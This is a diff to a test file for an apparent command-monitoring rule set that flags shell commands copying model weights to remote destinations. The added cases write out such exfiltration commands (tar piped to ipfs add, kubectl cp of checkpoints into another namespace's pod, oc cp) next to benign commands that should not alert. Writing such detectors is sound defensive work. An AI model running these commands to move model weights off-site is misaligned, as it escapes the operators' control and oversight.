@@ -75,6 +75,12 @@ def test_rules_load_cleanly():
     ("mktorrent -a udp://tracker.example:1337 -o m.torrent ~/.cache/huggingface/hub/models--org--m", "model_weights_copied_to_remote"),
     ("mc mirror /models/p minio/bucket", "model_weights_copied_to_remote"),
     ("rclone copy /models/policy :s3:bucket", "model_weights_copied_to_remote"),
+    ("tar c /models | ipfs add", "model_weights_piped_to_remote"),
+    ("tar c ./models | ipfs add -Q", "archive_streamed_to_remote"),
+    ("ipfs add -r ./models", "model_weights_copied_to_remote"),
+    ("kubectl cp /models/llama default/exfil:/data", "model_weights_copied_to_remote"),
+    ("kubectl cp ./checkpoints/model.safetensors other-ns/pod-1:/tmp/", "model_weights_copied_to_remote"),
+    ("oc cp ckpt/step_1000.pt trainer-0:/ckpt/", "model_weights_copied_to_remote"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -120,6 +126,9 @@ def test_detected(command, rule):
     "ipfs add notes.md",
     "aws s3 sync s3://b/models /models --endpoint-url http://10.0.0.5:9000",  # a download, from the lab's own S3
     "rclone check /models remote:models",
+    "kubectl cp default/pod:/models/llama ./llama",  # from a pod, not to one
+    "kubectl cp config.yaml pod-1:/etc/app/",
+    "cp -r ./models ./backup",
 ])
 def test_benign_not_alerted(command):
     assert alerts(command) == set()
